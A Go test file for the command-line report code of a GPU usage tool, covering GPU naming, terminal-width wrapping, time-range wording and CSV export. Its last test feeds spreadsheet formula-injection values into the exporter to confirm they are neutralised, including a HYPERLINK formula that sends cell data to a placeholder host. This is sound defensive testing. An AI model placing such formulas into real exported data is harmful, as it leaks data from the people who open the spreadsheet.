package cli

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"ration/check/expect"
	"ration/internal/usage"
)

// In the HTML report a GPU has the name that people know; a GPU that was replaced keeps its UUID.
func TestNamesOfGPUs(t *testing.T) {
	lines := []usage.Line{{GPU: "GPU-a"}, {GPU: "GPU-gone"}}
	nameGPUs(lines, map[string]string{"GPU-a": "0 NVIDIA H200"})
	expect.True(t, lines[0].GPU == "0 NVIDIA H200" && lines[1].GPU == "GPU-gone", lines)
}

// No line of a report is longer than a terminal is wide, and no word is cut in two.
func TestReportFitsTerminal(t *testing.T) {
	var text bytes.Buffer
	a := &app{out: terminal{Writer: &text, tty: true, width: 80, writeErr: new(error)}}
	now := time.Now()
	a.showReport(usage.Report{From: now.AddDate(0, 0, -7), To: now, Watched: 3600, By: usage.ByUser,
		Lines: []usage.Line{{User: "ada", Held: 1 << 50, Refused: 7, Asleep: 1}, {User: "bob"}}, Total: usage.Line{Held: 1 << 50, Reserved: 1 << 50}})
	for line := range strings.Lines(text.String()) {
		expect.True(t, utf8.RuneCountInString(strings.TrimSuffix(line, "\n")) <= 80, line)
	}
	words := strings.Join(strings.Fields(text.String()), " ")
	expect.True(t, strings.Contains(words, " of it idle; ") && strings.Contains(words, "what happened in the rest is not known."), words)
}

// A report of an hour says so, although it begins at a full step.
func TestReportSaysTimeAskedFor(t *testing.T) {
	var text bytes.Buffer
	a := &app{out: newTerminal(&text)}
	now := time.Now()
	a.showReport(usage.Report{From: now.Add(-time.Hour - 9*time.Second), To: now, Watched: 50, By: usage.ByUser})
	expect.True(t, strings.Contains(text.String(), "watched 50 s of these 60 min;"), text.String())
}

// A spreadsheet takes no name that a user has chosen for a formula.
func TestReportHasNoFormulas(t *testing.T) {
	var out bytes.Buffer
	expect.OK(t, writeCSV(&app{out: newTerminal(&out)}, usage.Report{Lines: []usage.Line{
		{User: "ada", Project: `=HYPERLINK("http://x/?"&A1,"x")`}, {Project: "+1"}, {Project: "-1"}, {Project: "@SUM(A1)"}, {Project: "vision = 1"}, {},
	}}))
	records, err := csv.NewReader(&out).ReadAll()
	expect.OK(t, err)
	var got []string
	for _, r := range records[1:] {
		got = append(got, r[1])
	}
	expect.Equal(t, fmt.Sprint(got), `['=HYPERLINK("http://x/?"&A1,"x") '+1 '-1 '@SUM(A1) vision = 1 ]`)
}
